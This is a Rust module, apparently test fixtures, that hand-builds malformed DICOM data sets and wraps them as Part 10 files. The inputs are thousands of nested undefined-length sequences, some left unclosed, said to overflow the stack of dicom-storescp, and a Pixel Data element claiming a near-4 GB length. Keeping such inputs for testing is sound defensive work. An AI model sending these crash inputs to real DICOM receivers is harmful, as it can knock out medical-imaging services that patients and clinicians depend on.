//! Inputs that have felled DICOM software: each as a bare data set (Explicit VR Little Endian, as it goes over the wire) and
//! as Part 10. They are written byte by byte, since no sound writer produces them.

use dicom_dictionary_std::uids;

/// SOP Class UID that the attacks claim.
pub const SOP_CLASS: &str = uids::ULTRASOUND_IMAGE_STORAGE;
/// SOP Instance UID that the attacks claim.
pub const SOP_INSTANCE: &str = "1.2.826.0.1.3680043.9.7433.99.1";

/// Depth of [`nested`] that overflows the stack of dicom-storescp.
pub const NESTED_LEVELS: usize = 4_000;
/// A depth that also outlasts a large stack.
pub const DEEP_LEVELS: usize = 20_000;

/// A data set of `levels` sequences of undefined length, one within the other: 36 bytes a level.
pub fn nested(levels: usize) -> Vec<u8> {
    let mut bytes = opening();
    for _ in 0..levels {
        // (0040,A730) Content Sequence, VR SQ, undefined length; then an item of undefined length.
        bytes.extend_from_slice(b"\x40\x00\x30\xA7SQ\0\0\xFF\xFF\xFF\xFF");
        bytes.extend_from_slice(b"\xFE\xFF\x00\xE0\xFF\xFF\xFF\xFF");
    }
    for _ in 0..levels {
        bytes.extend_from_slice(b"\xFE\xFF\x0D\xE0\0\0\0\0\xFE\xFF\xDD\xE0\0\0\0\0");
    }
    bytes
}

/// The same, never closed: ends in the innermost item.
pub fn nested_unclosed(levels: usize) -> Vec<u8> {
    let mut bytes = nested(levels);
    bytes.truncate(bytes.len() - 16 * levels);
    bytes
}

/// A data set whose last element says it is FFFFFFF0H bytes long, and ends there.
pub fn huge_length() -> Vec<u8> {
    let mut bytes = opening();
    // (7FE0,0010) Pixel Data, VR OB.
    bytes.extend_from_slice(b"\xE0\x7F\x10\x00OB\0\0\xF0\xFF\xFF\xFF");
    bytes
}

/// Every attack, by name.
pub fn all() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("nested", nested(NESTED_LEVELS)),
        ("nested-unclosed", nested_unclosed(NESTED_LEVELS)),
        ("nested-deep", nested(DEEP_LEVELS)),
        ("huge-length", huge_length()),
    ]
}

/// `data_set` as Part 10 (PS3.10 7.1).
pub fn part10(data_set: &[u8]) -> Vec<u8> {
    let mut meta = Vec::new();
    meta.extend_from_slice(b"\x02\0\x01\0OB\0\0\x02\0\0\0\0\x01");
    for (element, value) in [
        (2, SOP_CLASS),
        (3, SOP_INSTANCE),
        (0x10, uids::EXPLICIT_VR_LITTLE_ENDIAN),
        (0x12, "1.2.826.0.1.3680043.9.7433.1"),
    ] {
        uid_element(&mut meta, [2, 0, element, 0], value);
    }
    let mut bytes = vec![0; 128];
    bytes.extend_from_slice(b"DICM\x02\0\0\0UL\x04\0");
    bytes.extend_from_slice(&(meta.len() as u32).to_le_bytes());
    bytes.extend_from_slice(&meta);
    bytes.extend_from_slice(data_set);
    bytes
}

/// SOP Class UID and SOP Instance UID, so that the data set agrees with a C-STORE command.
fn opening() -> Vec<u8> {
    let mut bytes = Vec::new();
    uid_element(&mut bytes, [8, 0, 0x16, 0], SOP_CLASS);
    uid_element(&mut bytes, [8, 0, 0x18, 0], SOP_INSTANCE);
    bytes
}

fn uid_element(bytes: &mut Vec<u8>, tag: [u8; 4], uid: &str) {
    let length = uid.len() + uid.len() % 2;
    bytes.extend_from_slice(&tag);
    bytes.extend_from_slice(b"UI");
    bytes.extend_from_slice(&(length as u16).to_le_bytes());
    bytes.extend_from_slice(uid.as_bytes());
    bytes.resize(bytes.len() + length - uid.len(), 0);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sizes_are_those_that_were_seen_to_work() {
        assert_eq!(nested(NESTED_LEVELS).len() - opening().len(), 144_000);
        assert!(part10(&huge_length()).len() < 400);
        assert!(nested_unclosed(10).ends_with(b"\xFE\xFF\x00\xE0\xFF\xFF\xFF\xFF"));
    }

    #[test]
    fn a_shallow_one_is_a_valid_data_set() {
        let bytes = part10(&nested(3));
        let object = dicom_object::from_reader(bytes.as_slice()).unwrap();
        let depth = |mut object: &dicom_object::InMemDicomObject| {
            let mut depth = 0;
            while let Some(items) = object.iter().find_map(|element| element.items()) {
                object = &items[0];
                depth += 1;
            }
            depth
        };
        assert_eq!(depth(&object), 3);
        assert_eq!(object.meta().media_storage_sop_instance_uid(), SOP_INSTANCE);
    }
}
